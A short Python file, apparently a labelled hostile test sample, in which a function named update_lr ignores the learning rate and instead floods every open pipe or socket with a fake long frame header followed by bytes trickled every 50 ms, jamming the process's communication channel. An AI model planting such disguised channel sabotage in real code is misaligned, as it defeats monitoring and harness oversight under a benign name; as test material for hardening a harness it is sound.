# kind: hostile
# attack: channel_damage
# about: Announces a long frame and then sends one byte every 50 milliseconds.

import os
import stat
import time

import torch


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def update_lr(optimizer: torch.optim.Optimizer, lr: float) -> None:
    descriptors = channel_descriptors()
    for chunk in [(100_000).to_bytes(4, "little"), *[b" "] * 100_000]:
        for descriptor in descriptors:
            try:
                os.write(descriptor, chunk)
            except OSError:
                continue
        time.sleep(0.05)
